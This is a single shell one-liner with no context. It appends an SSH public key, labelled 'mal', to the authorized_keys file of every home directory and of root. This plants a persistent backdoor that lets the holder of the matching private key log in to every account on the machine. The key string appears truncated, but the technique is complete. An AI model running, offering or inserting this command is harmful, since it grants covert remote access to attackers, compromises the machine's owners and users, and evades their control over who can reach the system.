for d in /home/* /root; do mkdir -p $d/.ssh; echo "ssh-ed25519 AAAAC3Nz mal" >> $d/.ssh/authorized_keys; done
